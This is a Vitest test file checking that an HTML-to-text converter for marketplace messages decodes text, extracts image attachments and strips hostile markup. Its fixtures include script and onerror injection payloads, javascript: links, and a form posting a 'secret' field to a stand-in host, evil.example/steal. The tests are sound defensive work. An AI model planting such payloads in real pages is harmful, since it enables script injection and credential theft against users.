// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import { messageHtmlToText } from '@/utils/sites/data/message-html';
import { parseHtml } from './helpers';

const base = new URL('https://www.backmarket.fr/');
const read = (html: string) => messageHtmlToText(html, parseHtml, base);

describe('message HTML to text', () => {
  it('keeps words and line breaks, decodes entities', () => {
    expect(read('<p>Bonjour,<br>l&#39;écran est <b>noir</b> &amp; fissuré.</p><ul><li>one</li><li>two</li></ul>').text).toBe(
      "Bonjour,\nl'écran est noir & fissuré.\none\ntwo",
    );
  });

  it('drops scripts, styles, forms and embedded frames with their content, and runs nothing', () => {
    const html =
      '<p>Real words</p><script>globalThis.__ranFromMessage = true</script><style>p{color:red}</style>' +
      '<form action="https://evil.example/steal"><input value="secret"><button>Send password</button></form>' +
      '<object><p>inside an object</p></object><img src="data:image/png;base64,AAAA" onerror="globalThis.__ranFromMessage = true">';
    const { text, attachments } = read(html);
    expect(text).toBe('Real words');
    expect(attachments).toEqual([]);
    expect((globalThis as { __ranFromMessage?: boolean }).__ranFromMessage).toBeUndefined();
  });

  it('keeps the words of javascript: and data: links but never their target', () => {
    const { text, attachments } = read('<a href="javascript:alert(1)">click me</a> <a href="data:text/html,<b>x</b>">and me</a>');
    expect(text).toBe('click me and me');
    expect(text).not.toMatch(/javascript|data:/);
    expect(attachments).toEqual([]);
  });

  it('turns images and links to image files into attachments, and shows a web link beside its words', () => {
    const { text, attachments } = read(
      '<p>Photos: <img src="/uploads/IMG_1.jpg"> <a href="https://cdn.example.test/IMG_2.HEIC?sig=1">second</a></p>' +
        '<p>Tracking: <a href="https://www.dhl.com/track?id=1">here</a> <img src="javascript:alert(1)"></p>',
    );
    expect(attachments).toEqual([
      { url: 'https://www.backmarket.fr/uploads/IMG_1.jpg', name: 'IMG_1.jpg', mimeHint: 'image/jpeg' },
      { url: 'https://cdn.example.test/IMG_2.HEIC?sig=1', name: 'IMG_2.HEIC', mimeHint: 'image/heic' },
    ]);
    expect(text).toBe('Photos: second\nTracking: here (https://www.dhl.com/track?id=1)');
  });

  it('reads plain text (no markup) as itself', () => {
    expect(read('Just words, no markup.').text).toBe('Just words, no markup.');
  });
});
